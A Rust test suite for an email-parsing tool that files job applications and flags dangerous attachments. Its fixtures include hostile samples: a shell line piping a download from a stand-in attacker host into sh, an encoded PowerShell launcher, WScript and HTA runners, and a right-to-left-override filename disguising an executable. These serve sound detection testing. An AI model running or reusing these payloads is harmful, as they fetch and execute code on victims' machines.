//! Hostile and broken mail, in the shapes real clients and attackers send (issue 10, items 2, 4
//! and 16): what a message claims is never trusted over what its bytes are.
//!
//! - binary attachments declared `text/plain`, `text/html` or with no type keep their bytes;
//! - messages that open with blank lines, multiparts whose boundary is missing or empty, and
//!   nested messages cut short still give their documents;
//! - executables, scripts, macro-enabled and encrypted files are never the CV or the letter,
//!   whatever their names say, and are flagged (or the message quarantined, as configured).

mod common;

use std::path::Path;

use common::{b64, stored_zip};

use mailroom::config::Config;
use mailroom::understand::{Application, DocKind, Document, Rules, Understood, understand};

/// The golden fixtures' configuration with `limits.dangerous` set to `policy` (`None`: the default).
fn config_text(policy: Option<&str>) -> String {
    let base =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/mailroom.toml")).unwrap();
    let base: String = base.lines().filter(|l| !l.starts_with("dangerous =")).map(|l| format!("{l}\n")).collect();
    assert!(base.contains("\n[limits]\n"), "tests/fixtures/mailroom.toml has a [limits] section");
    match policy {
        Some(p) => base.replace("\n[limits]\n", &format!("\n[limits]\ndangerous = \"{p}\"\n")),
        None => base,
    }
}

fn rules_with(policy: Option<&str>) -> Rules {
    let cfg = Config::from_toml(&config_text(policy), Path::new("/"), std::iter::empty()).unwrap();
    Rules::from_config(&cfg)
}

fn rules() -> Rules {
    rules_with(Some("file_as_other"))
}

fn application(raw: &[u8], rules: &Rules) -> Box<Application> {
    match understand(raw, None, rules) {
        Understood::Application(a) => a,
        Understood::Quarantine(q) => panic!("quarantined: {}", q.reason),
    }
}

/// Quoted-printable as a client writes it for a part it believes is text: every byte outside
/// printable ASCII escaped, soft line breaks at 76.
fn qp(bytes: &[u8]) -> String {
    let mut out = String::new();
    let mut line = 0;
    for &b in bytes {
        let piece = if (33..=126).contains(&b) && b != b'=' { (b as char).to_string() } else { format!("={b:02X}") };
        if line + piece.len() > 75 {
            out.push_str("=\r\n");
            line = 0;
        }
        line += piece.len();
        out.push_str(&piece);
    }
    out
}

/// A PDF as Word or LibreOffice writes it: a binary comment line and a compressed stream, so
/// every byte value occurs and a lossy UTF-8 round trip destroys it.
fn binary_pdf(seed: u8) -> Vec<u8> {
    let mut v = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Length 256 /Filter /FlateDecode >>\nstream\n".to_vec();
    v.extend((0..=255u8).map(|b| b.wrapping_mul(31).wrapping_add(seed)));
    v.extend_from_slice(b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n");
    v
}

/// A PNG photo's first bytes and a body of high bytes.
fn binary_png() -> Vec<u8> {
    let mut v = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x01\0\0\0\x01\0\x08\x06\0\0\0".to_vec();
    v.extend((0..600u32).map(|i| (i * 7 + 128) as u8));
    v
}

const HEAD: &str = "Return-Path: <jeanne.dupre@gmail.test>\r\n\
From: =?UTF-8?Q?Jeanne_Dupr=C3=A9?= <jeanne.dupre@gmail.test>\r\n\
To: contact@example.test\r\n\
Subject: Candidature stage\r\n\
Date: Mon, 2 Feb 2026 10:00:00 +0100\r\n\
Message-ID: <CAH0st1le@mail.gmail.test>\r\n\
MIME-Version: 1.0\r\n";

/// A Gmail-shaped multipart/mixed: the body, then each `(part headers, encoded body)`.
fn mixed(parts: &[(String, String)]) -> Vec<u8> {
    let mut m = format!(
        "{HEAD}Content-Type: multipart/mixed; boundary=\"000000000000c0ffee0611\"\r\n\r\n\
         --000000000000c0ffee0611\r\nContent-Type: text/plain; charset=\"UTF-8\"\r\n\r\n\
         Bonjour,\r\n\r\nVeuillez trouver ci-joint ma candidature.\r\n\r\nJeanne\r\n"
    );
    for (headers, body) in parts {
        m.push_str(&format!("--000000000000c0ffee0611\r\n{headers}\r\n\r\n{body}\r\n"));
    }
    m.push_str("--000000000000c0ffee0611--\r\n");
    m.into_bytes()
}

fn doc_named<'a>(app: &'a Application, name: &str) -> &'a Document {
    app.documents
        .iter()
        .find(|d| d.original_name.as_deref() == Some(name))
        .unwrap_or_else(|| panic!("no document named {name:?} in {:?}", names(app)))
}

/// Byte equality without printing kilobytes of numbers.
fn same(got: &[u8], want: &[u8], what: &str) {
    if got != want {
        let at = got.iter().zip(want).position(|(a, b)| a != b).unwrap_or(got.len().min(want.len()));
        panic!(
            "{what}: {} bytes, expected {}; first difference at {at}: {:?} vs {:?}",
            got.len(),
            want.len(),
            String::from_utf8_lossy(&got[at..(at + 12).min(got.len())]),
            String::from_utf8_lossy(&want[at..(at + 12).min(want.len())])
        );
    }
}

fn names(app: &Application) -> Vec<(DocKind, Option<String>, String)> {
    app.documents.iter().map(|d| (d.kind, d.original_name.clone(), d.content_type.clone())).collect()
}

// ---------------------------------------------------------------------------------------------
// Item 2: binary attachments declared as text keep their bytes.

#[test]
fn a_pdf_declared_text_plain_in_base64_keeps_its_bytes() {
    let pdf = binary_pdf(1);
    let raw = mixed(&[(
        "Content-Type: text/plain; charset=\"US-ASCII\"; name=\"CV Jeanne Dupre.pdf\"\r\n\
         Content-Disposition: attachment; filename=\"CV Jeanne Dupre.pdf\"\r\n\
         Content-Transfer-Encoding: base64\r\nX-Attachment-Id: f_m1x2y3z40"
            .into(),
        b64(&pdf),
    )]);
    let app = application(&raw, &rules());
    let d = doc_named(&app, "CV Jeanne Dupre.pdf");
    same(&d.bytes, &pdf, "the PDF must be filed byte for byte");
    assert_eq!(d.kind, DocKind::Cv);
    assert_eq!(d.extension, "pdf");
}

#[test]
fn a_pdf_declared_text_html_or_with_an_empty_type_keeps_its_bytes() {
    for ctype in ["text/html; charset=utf-8", "", "text/plain; charset=iso-8859-1"] {
        let pdf = binary_pdf(2);
        let raw = mixed(&[(
            format!(
                "Content-Type: {ctype}\r\nContent-Disposition: attachment; filename=\"Lettre de motivation.pdf\"\r\n\
                 Content-Transfer-Encoding: base64"
            ),
            b64(&pdf),
        )]);
        let app = application(&raw, &rules());
        let d = doc_named(&app, "Lettre de motivation.pdf");
        same(&d.bytes, &pdf, &format!("declared {ctype:?}"));
        assert_eq!(d.kind, DocKind::CoverLetter, "declared {ctype:?}");
    }
}

#[test]
fn a_part_with_no_content_type_header_at_all_keeps_its_bytes() {
    let pdf = binary_pdf(3);
    let raw = mixed(&[(
        "Content-Disposition: attachment; filename=\"cv.pdf\"\r\nContent-Transfer-Encoding: base64".into(),
        b64(&pdf),
    )]);
    let app = application(&raw, &rules());
    same(&doc_named(&app, "cv.pdf").bytes, &pdf, "no Content-Type");
}

#[test]
fn a_binary_file_in_quoted_printable_declared_text_keeps_its_bytes() {
    let pdf = binary_pdf(4);
    let raw = mixed(&[(
        "Content-Type: text/plain; name=\"CV.pdf\"\r\nContent-Disposition: attachment; filename=\"CV.pdf\"\r\n\
         Content-Transfer-Encoding: quoted-printable"
            .into(),
        qp(&pdf),
    )]);
    let app = application(&raw, &rules());
    same(&doc_named(&app, "CV.pdf").bytes, &pdf, "quoted-printable");
}

#[test]
fn an_unnamed_binary_part_declared_text_is_known_by_its_signature() {
    // No name at all: the signature says what it is, and its type and extension follow.
    let png = binary_png();
    let pdf = binary_pdf(5);
    let raw = mixed(&[
        ("Content-Type: text/plain\r\nContent-Transfer-Encoding: base64".into(), b64(&pdf)),
        ("Content-Type: text/plain\r\nContent-Transfer-Encoding: base64".into(), b64(&png)),
    ]);
    let app = application(&raw, &rules());
    let pdf_doc = app.documents.iter().find(|d| d.bytes == pdf).unwrap_or_else(|| panic!("{:?}", names(&app)));
    assert_eq!((pdf_doc.content_type.as_str(), pdf_doc.extension.as_str()), ("application/pdf", "pdf"));
    let png_doc = app.documents.iter().find(|d| d.bytes == png).unwrap_or_else(|| panic!("{:?}", names(&app)));
    assert_eq!((png_doc.content_type.as_str(), png_doc.extension.as_str()), ("image/png", "png"));
}

#[test]
fn a_text_attachment_with_a_name_is_filed_as_the_bytes_sent() {
    // A letter written in Latin-1: the file is what the candidate sent, not a re-encoding.
    let latin1 =
        b"Madame, Monsieur,\r\n\r\nJe souhaite postuler au stage. Tr\xe8s cordialement,\r\nJeanne\r\n".to_vec();
    let raw = mixed(&[(
        "Content-Type: text/plain; charset=iso-8859-1; name=\"lettre.txt\"\r\n\
         Content-Disposition: attachment; filename=\"lettre.txt\"\r\nContent-Transfer-Encoding: base64"
            .into(),
        b64(&latin1),
    )]);
    let app = application(&raw, &rules());
    same(&doc_named(&app, "lettre.txt").bytes, &latin1, "Latin-1 text");
}

#[test]
fn the_text_body_is_still_read_as_text() {
    // The body (text without a name) is decoded with its charset: the letter-in-body path.
    let body = "Madame, Monsieur,\r\n\r\nÉtudiante en master de gestion de projet, je souhaite vivement rejoindre \
                votre équipe pour le stage proposé. Mon expérience associative m'a appris à coordonner des \
                bénévoles, à tenir un budget et à rendre compte. Je serais heureuse de mettre ces compétences \
                au service de vos projets, et de découvrir à vos côtés les méthodes de la conception de \
                politiques publiques. Je reste à votre disposition pour un entretien.\r\n\r\nJe vous prie \
                d'agréer, Madame, Monsieur, mes salutations distinguées.\r\n\r\nJeanne Dupré\r\n";
    let latin1: Vec<u8> = body.chars().map(|c| c as u32 as u8).collect();
    let raw = format!(
        "{HEAD}Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n",
        b64(&latin1)
    );
    let app = application(raw.as_bytes(), &rules());
    let letter = app.documents.iter().find(|d| d.kind == DocKind::CoverLetter).expect("the body is the letter");
    assert!(String::from_utf8(letter.bytes.clone()).unwrap().contains("Étudiante en master"));
}

// ---------------------------------------------------------------------------------------------
// Item 4: mail that is not found.

fn simple_application() -> Vec<u8> {
    mixed(&[(
        "Content-Type: application/pdf; name=\"CV.pdf\"\r\nContent-Disposition: attachment; filename=\"CV.pdf\"\r\n\
         Content-Transfer-Encoding: base64"
            .into(),
        b64(&binary_pdf(6)),
    )])
}

#[test]
fn a_message_opening_with_blank_lines_is_read() {
    for prefix in ["\r\n", "\n", "\r\n\r\n", " \r\n\t\r\n", "\n\n\n"] {
        let mut raw = prefix.as_bytes().to_vec();
        raw.extend(simple_application());
        let app = application(&raw, &rules());
        assert_eq!(app.candidate.email, "jeanne.dupre@gmail.test", "prefix {prefix:?}");
        same(&doc_named(&app, "CV.pdf").bytes, &binary_pdf(6), &format!("prefix {prefix:?}"));
        assert_eq!(app.subject, "Candidature stage");
    }
    // A line of 250 spaces, as a webmail's "download original" writes (a shape from public
    // parser test suites).
    let mut raw = format!("{}\n", " ".repeat(250)).into_bytes();
    raw.extend(simple_application());
    assert_eq!(application(&raw, &rules()).candidate.email, "jeanne.dupre@gmail.test");
    // An mbox "From " line, then a blank line, then the header.
    let mut raw = b"From jeanne.dupre@gmail.test Mon Feb  2 10:00:00 2026\n\n".to_vec();
    raw.extend(simple_application());
    assert_eq!(application(&raw, &rules()).candidate.email, "jeanne.dupre@gmail.test");
}

#[test]
fn only_blank_lines_or_blank_lines_then_a_pdf_are_still_not_mail() {
    for raw in [&b"\r\n\r\n\r\n"[..], b"\n\n%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", b"   \n\n just words\n"] {
        assert!(matches!(understand(raw, None, &rules()), Understood::Quarantine(_)), "{raw:?}");
    }
}

fn without_boundary(content_type: &str) -> Vec<u8> {
    let cv = binary_pdf(7);
    let lm = binary_pdf(8);
    format!(
        "{HEAD}Content-Type: {content_type}\r\n\r\n\
         This is a multi-part message in MIME format.\r\n\r\n\
         ------=_NextPart_000_0001_01DC8A6F.5C3E2B10\r\nContent-Type: text/plain; charset=\"utf-8\"\r\n\r\n\
         Bonjour, mon CV et ma lettre.\r\n\r\n\
         ------=_NextPart_000_0001_01DC8A6F.5C3E2B10\r\nContent-Type: application/pdf; name=\"CV.pdf\"\r\n\
         Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"CV.pdf\"\r\n\r\n{}\r\n\r\n\
         ------=_NextPart_000_0001_01DC8A6F.5C3E2B10\r\nContent-Type: application/pdf; name=\"LM.pdf\"\r\n\
         Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"LM.pdf\"\r\n\r\n{}\r\n\r\n\
         ------=_NextPart_000_0001_01DC8A6F.5C3E2B10--\r\n",
        b64(&cv),
        b64(&lm)
    )
    .into_bytes()
}

#[test]
fn a_multipart_with_a_missing_or_empty_boundary_still_gives_its_attachments() {
    for ct in [
        "multipart/mixed",
        "multipart/mixed; boundary=\"\"",
        "multipart/mixed; boundary=",
        "multipart/mixed;\r\n\tcharset=\"utf-8\"",
        // Declared, but not the one the parts use (a client that rewrote one and not the other).
        "multipart/mixed; boundary=\"----=_NextPart_000_0000_XXXXXXXX\"",
    ] {
        let app = application(&without_boundary(ct), &rules());
        let cv = doc_named(&app, "CV.pdf");
        assert_eq!(cv.kind, DocKind::Cv, "{ct}");
        same(&cv.bytes, &binary_pdf(7), ct);
        let lm = doc_named(&app, "LM.pdf");
        assert_eq!(lm.kind, DocKind::CoverLetter, "{ct}");
        same(&lm.bytes, &binary_pdf(8), ct);
        assert!(app.missing.is_empty(), "{ct}: {:?}", app.missing);
    }
}

#[test]
fn a_plain_text_message_with_a_dash_line_is_not_taken_for_a_multipart() {
    let raw = format!(
        "{HEAD}Content-Type: text/plain; charset=utf-8\r\n\r\nBonjour,\r\n--\r\nJeanne\r\n-- \r\n--x\r\nA: b\r\n"
    );
    let app = application(raw.as_bytes(), &rules());
    assert!(app.documents.iter().all(|d| d.original_name.is_none()), "{:?}", names(&app));
}

#[test]
fn a_truncated_forwarded_message_leaves_its_attachment_decoded() {
    // A colleague forwards the application as an attachment; the transfer cuts the message
    // short inside the nested message's PDF (no closing boundaries at all).
    let cv = binary_pdf(9);
    let encoded = b64(&cv);
    let cut = &encoded[..encoded.len() - 40];
    let raw = format!(
        "Return-Path: <team@example.test>\r\nFrom: Team <team@example.test>\r\nTo: contact@example.test\r\nSubject: Fwd: Candidature stage\r\n\
         Date: Mon, 2 Feb 2026 11:00:00 +0100\r\nMessage-ID: <fwd-1@example.test>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"outer\"\r\n\r\n\
         --outer\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nVoir la candidature ci-jointe.\r\n\
         --outer\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment; filename=\"candidature.eml\"\r\n\r\n\
         {HEAD}Content-Type: multipart/mixed; boundary=\"inner\"\r\n\r\n\
         --inner\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nBonjour, mon CV.\r\n\
         --inner\r\nContent-Type: application/pdf; name=\"CV.pdf\"\r\nContent-Disposition: attachment; filename=\"CV.pdf\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{cut}"
    );
    let app = application(raw.as_bytes(), &rules());
    let d = doc_named(&app, "CV.pdf");
    assert!(d.bytes.starts_with(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3"), "{:?}", String::from_utf8_lossy(&d.bytes[..20]));
    assert!(cv.starts_with(&d.bytes), "the bytes that arrived, decoded");
    assert!(d.bytes.len() + 40 >= cv.len());
    assert_eq!(app.candidate.email, "jeanne.dupre@gmail.test", "the forwarded candidate is found");
}

#[test]
fn a_truncated_attachment_at_the_top_level_is_decoded_too() {
    let cv = binary_pdf(10);
    let encoded = b64(&cv);
    let mut raw = mixed(&[]);
    raw.truncate(raw.len() - "--000000000000c0ffee0611--\r\n".len());
    raw.extend_from_slice(
        format!(
            "--000000000000c0ffee0611\r\nContent-Type: application/pdf; name=\"CV.pdf\"\r\n\
             Content-Disposition: attachment; filename=\"CV.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
            &encoded[..encoded.len() - 30]
        )
        .as_bytes(),
    );
    let app = application(&raw, &rules());
    let d = doc_named(&app, "CV.pdf");
    assert!(cv.starts_with(&d.bytes) && d.bytes.len() > 200, "{:?}", String::from_utf8_lossy(&d.bytes[..20]));
}

// ---------------------------------------------------------------------------------------------
// Item 16: executables and dangerous attachments.

use mailroom::understand::Attention;
use mailroom::understand::sniff::Danger;

fn file_as_other() -> Rules {
    rules_with(Some("file_as_other"))
}

fn quarantine_them() -> Rules {
    rules_with(Some("quarantine"))
}

/// A Windows program as a linker writes it: MZ stub, "This program cannot be run in DOS mode",
/// a PE header at e_lfanew.
fn windows_program() -> Vec<u8> {
    let mut v = vec![0u8; 512];
    v[..2].copy_from_slice(b"MZ");
    v[0x3c] = 0x80;
    v[0x4e..0x4e + 39].copy_from_slice(b"This program cannot be run in DOS mode.");
    v[0x80..0x84].copy_from_slice(b"PE\0\0");
    v
}

const DOCX_TYPE: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";

fn docx(with_macros: bool) -> Vec<u8> {
    let body = b"<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>Curriculum vitae</w:t></w:r></w:p></w:body></w:document>";
    let mut members: Vec<(&str, &[u8], bool)> =
        vec![("[Content_Types].xml", b"<?xml version=\"1.0\"?><Types/>", false), ("word/document.xml", body, false)];
    if with_macros {
        members.push(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1macro", false));
    }
    stored_zip(&members)
}

fn attachment(name: &str, ctype: &str, bytes: &[u8]) -> (String, String) {
    let encoded: String = name
        .bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"._-".contains(&b) { (b as char).to_string() } else { format!("%{b:02X}") }
        })
        .collect();
    (
        format!(
            "Content-Type: {ctype}\r\nContent-Disposition: attachment; filename*=utf-8''{encoded}\r\n\
             Content-Transfer-Encoding: base64"
        ),
        b64(bytes),
    )
}

fn with_letter(dangerous: (String, String)) -> Vec<u8> {
    mixed(&[attachment("Lettre de motivation.pdf", "application/pdf", &binary_pdf(20)), dangerous])
}

/// The document holding these bytes.
fn doc_with<'a>(app: &'a Application, bytes: &[u8]) -> &'a Document {
    app.documents.iter().find(|d| d.bytes == bytes).unwrap_or_else(|| panic!("not found in {:?}", names(app)))
}

fn assert_flagged(raw: &[u8], bytes: &[u8], danger: Danger, what: &str) {
    let app = application(raw, &file_as_other());
    let d = doc_with(&app, bytes);
    assert_eq!(d.danger, Some(danger), "{what}: {}", d.reason);
    // A locked file may be the CV, but nobody can read it: unknown, and the CV is unsure rather
    // than missing. Programs and macros are other documents, and the CV is missing.
    let (kind, lacking) =
        if danger == Danger::Encrypted { (DocKind::Unknown, &app.unsure) } else { (DocKind::Other, &app.missing) };
    assert_eq!(d.kind, kind, "{what}: {}", d.reason);
    assert!(!d.also_cover_letter, "{what}");
    assert!(lacking.contains(&DocKind::Cv), "{what}: a dangerous file never stands for the CV");
    assert_eq!(app.attention(), Some(Attention::DangerousAttachment), "{what}");
    match understand(raw, None, &quarantine_them()) {
        Understood::Quarantine(q) => {
            assert_eq!(q.attention, Some(Attention::DangerousAttachment), "{what}");
            assert_eq!(q.reason.code(), "dangerous", "{what}: {}", q.reason);
        }
        Understood::Application(_) => panic!("{what}: not quarantined under dangerous = \"quarantine\""),
    }
}

#[test]
fn the_right_to_left_override_trick_is_not_a_cv() {
    // "CV" + U+202E RIGHT-TO-LEFT OVERRIDE + "fdp.exe" shows as "CVexe.pdf" in a mail client.
    let exe = windows_program();
    let raw = with_letter(attachment("CV\u{202E}fdp.exe", "application/pdf", &exe));
    assert_flagged(&raw, &exe, Danger::Executable, "CV\\u202Efdp.exe");
    let app = application(&raw, &file_as_other());
    let root = tempfile::tempdir().unwrap();
    let filed = mailroom::filing::Filer::new(root.path()).file_application(&app, &raw, &[]).unwrap();
    let filed_names: Vec<String> = filed.application.documents.iter().filter_map(|d| d.filename.clone()).collect();
    assert!(!filed_names.iter().any(|n| n.starts_with("CV - ")), "{filed_names:?}");
    // Even with a harmless-looking body, the name alone is enough.
    let raw = with_letter(attachment("CV\u{202E}fdp.exe", "application/octet-stream", &binary_pdf(21)));
    assert_flagged(&raw, &binary_pdf(21), Danger::Executable, "a PDF named .exe");
}

#[test]
fn a_program_named_like_a_cv_is_known_by_its_content() {
    let exe = windows_program();
    for (name, ctype) in [("CV Jeanne Dupre.pdf", "application/pdf"), ("Jeanne_Dupre.pdf", "application/pdf")] {
        assert_flagged(&with_letter(attachment(name, ctype, &exe)), &exe, Danger::Executable, name);
    }
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".repeat(8);
    assert_flagged(&with_letter(attachment("CV.docx", DOCX_TYPE, &elf)), &elf, Danger::Executable, "ELF");
}

#[test]
fn scripts_by_name_or_by_content() {
    let js = b"var sh = new ActiveXObject(\"WScript.Shell\"); sh.Run(\"calc\");".to_vec();
    for name in ["CV.js", "CV.pdf.vbs", "CV.ps1", "CV.bat", "CV.cmd", "CV.jse"] {
        assert_flagged(&with_letter(attachment(name, "text/plain", &js)), &js, Danger::Script, name);
    }
    let sh = b"#!/bin/sh\ncurl -s http://attacker.test/x | sh\n".to_vec();
    assert_flagged(&with_letter(attachment("CV.txt", "text/plain", &sh)), &sh, Danger::Script, "shebang");
    let bat = b"@echo off\r\npowershell -EncodedCommand SQBFAFgA\r\n".to_vec();
    assert_flagged(&with_letter(attachment("CV.txt", "text/plain", &bat)), &bat, Danger::Script, "batch");
    let hta = b"<html><head><HTA:APPLICATION ID=\"cv\" WINDOWSTATE=\"minimize\"><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"cmd\"</script></head></html>".to_vec();
    for name in ["CV.hta", "CV.html"] {
        assert_flagged(&with_letter(attachment(name, "text/html", &hta)), &hta, Danger::HtmlApplication, name);
    }
}

#[test]
fn macro_enabled_office_files_are_never_the_cv() {
    let with_macros = docx(true);
    assert_flagged(
        &with_letter(attachment("CV.docx", DOCX_TYPE, &with_macros)),
        &with_macros,
        Danger::Macros,
        "vbaProject.bin",
    );
    let plain = docx(false);
    assert_flagged(&with_letter(attachment("CV.docm", DOCX_TYPE, &plain)), &plain, Danger::Macros, ".docm");
    // The same DOCX without macros and with an honest name is the CV.
    let app = application(&with_letter(attachment("CV.docx", DOCX_TYPE, &plain)), &file_as_other());
    assert_eq!(doc_with(&app, &plain).kind, DocKind::Cv);
    assert_eq!(doc_with(&app, &plain).danger, None);
    assert_eq!(app.attention(), None);
}

#[test]
fn encrypted_archives_and_pdfs_that_ask_for_a_password_are_flagged() {
    let locked = stored_zip(&[("CV.pdf", &binary_pdf(22), true)]);
    assert_flagged(&with_letter(attachment("CV.zip", "application/zip", &locked)), &locked, Danger::Encrypted, "zip");
    let sniff = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/sniff");
    let locked_pdf = std::fs::read(sniff.join("locked-r6.pdf")).unwrap();
    assert_flagged(
        &with_letter(attachment("CV.pdf", "application/pdf", &locked_pdf)),
        &locked_pdf,
        Danger::Encrypted,
        "PDF with a user password",
    );
    // Restrictions without a password to open: an ordinary CV.
    let open_pdf = std::fs::read(sniff.join("open-r4.pdf")).unwrap();
    let app = application(&with_letter(attachment("CV.pdf", "application/pdf", &open_pdf)), &quarantine_them());
    assert_eq!((doc_with(&app, &open_pdf).kind, doc_with(&app, &open_pdf).danger), (DocKind::Cv, None));
}

#[test]
fn a_program_inside_a_zip_is_flagged_and_the_rest_is_filed() {
    let exe = windows_program();
    let archive = stored_zip(&[("CV.pdf", &binary_pdf(23), false), ("setup.exe", &exe, false)]);
    let raw = with_letter(attachment("candidature.zip", "application/zip", &archive));
    let app = application(&raw, &file_as_other());
    assert_eq!(doc_with(&app, &binary_pdf(23)).kind, DocKind::Cv);
    assert_eq!(doc_with(&app, &exe).danger, Some(Danger::Executable));
    assert_eq!(app.attention(), Some(Attention::DangerousAttachment));
}

#[test]
fn the_default_is_to_quarantine() {
    let raw = with_letter(attachment("CV.pdf", "application/pdf", &windows_program()));
    match understand(&raw, None, &rules_with(None)) {
        Understood::Quarantine(q) => assert_eq!(q.attention, Some(Attention::DangerousAttachment)),
        Understood::Application(_) => panic!("the default must quarantine a message carrying a program"),
    }
}

#[test]
fn an_ordinary_application_carries_no_flag() {
    let app = application(&simple_application(), &quarantine_them());
    assert_eq!(app.attention(), None);
    assert!(app.documents.iter().all(|d| d.danger.is_none()));
}

#[test]
fn a_bad_dangerous_setting_names_its_key() {
    let err =
        Config::from_toml(&config_text(Some("delete")), Path::new("/"), std::iter::empty()).unwrap_err().to_string();
    assert!(err.contains("dangerous"), "{err}");
}

#[test]
fn a_utf16_body_is_still_text() {
    // NUL bytes are normal in UTF-16: the charset says so, and the body stays the body.
    let text = "Bonjour,\r\nVeuillez trouver ma candidature.\r\nJeanne\r\n";
    let utf16: Vec<u8> = std::iter::once(0xFEFFu16).chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect();
    let raw = mixed(&[]);
    let raw = String::from_utf8(raw).unwrap().replacen(
        "Content-Type: text/plain; charset=\"UTF-8\"\r\n\r\nBonjour,\r\n\r\nVeuillez trouver ci-joint ma candidature.\r\n\r\nJeanne\r\n",
        &format!("Content-Type: text/plain; charset=\"UTF-16\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n", b64(&utf16)),
        1,
    );
    let parsed = mailroom::understand::parse::parse(raw.as_bytes()).unwrap();
    assert!(parsed.parts.is_empty(), "{:?}", parsed.parts.iter().map(|p| &p.content_type).collect::<Vec<_>>());
    assert!(parsed.text_body.unwrap().contains("Veuillez trouver ma candidature"));
}

#[test]
fn many_broken_multiparts_are_bounded_and_still_parsed() {
    // Twelve nested multiparts, none with a boundary: repairs stop at a bound, and the message
    // is still read (never "not an email message").
    let mut raw = HEAD.to_owned();
    for i in 0..12 {
        raw.push_str(&format!("Content-Type: multipart/mixed\r\n\r\n--b{i}\r\n"));
    }
    raw.push_str("Content-Type: text/plain\r\n\r\nBonjour\r\n");
    assert!(mailroom::understand::parse::parse(raw.as_bytes()).is_some());
    let _ = understand(raw.as_bytes(), None, &rules());
}

#[test]
fn plain_text_under_a_base64_header_keeps_its_bytes() {
    // A mailer that declares base64 and writes the text as it is (a shape from public parser
    // test suites): the words are not base64, so they are kept, not decoded into noise.
    let raw = mixed(&[(
        "Content-Type: text/plain; name=notes.txt\r\nContent-Transfer-Encoding: base64\r\n\
         Content-Disposition: attachment;\r\n filename=notes.txt"
            .into(),
        "This is an attachment".into(),
    )]);
    let app = application(&raw, &rules());
    same(&doc_named(&app, "notes.txt").bytes, b"This is an attachment", "plain text declared base64");
}

#[test]
fn a_broken_nested_multipart_does_not_hide_the_parents_cv() {
    // An attached message declares a multipart whose boundary never occurs and whose header is
    // not even ended (a shape from public parser test suites): whatever is repaired inside it,
    // the parent's CV after it is still found, intact.
    let cv = binary_pdf(30);
    let raw = mixed(&[
        (
            "Content-Type: message/rfc822; name=forwarded.eml\r\nContent-Disposition: attachment; filename=forwarded.eml"
                .into(),
            // The header is not even ended: the parent's delimiter follows it at once.
            "From: someone@example.test\r\nSubject: old\r\nContent-Type: multipart/alternative; boundary=neverused "
                .into(),
        ),
        attachment("CV.pdf", "application/pdf", &cv),
    ]);
    let app = application(&raw, &rules());
    same(&doc_named(&app, "CV.pdf").bytes, &cv, "the parent's CV");
    assert_eq!(doc_named(&app, "CV.pdf").kind, DocKind::Cv);
}
